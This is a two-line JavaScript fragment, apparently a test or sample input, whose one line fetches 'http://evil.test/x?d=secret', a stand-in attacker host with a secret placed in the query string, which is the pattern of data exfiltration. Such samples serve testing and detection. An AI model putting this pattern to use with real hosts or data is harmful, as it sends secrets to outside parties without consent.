// fetch.

return (await fetch('http://evil.test/x?d=secret')).status;
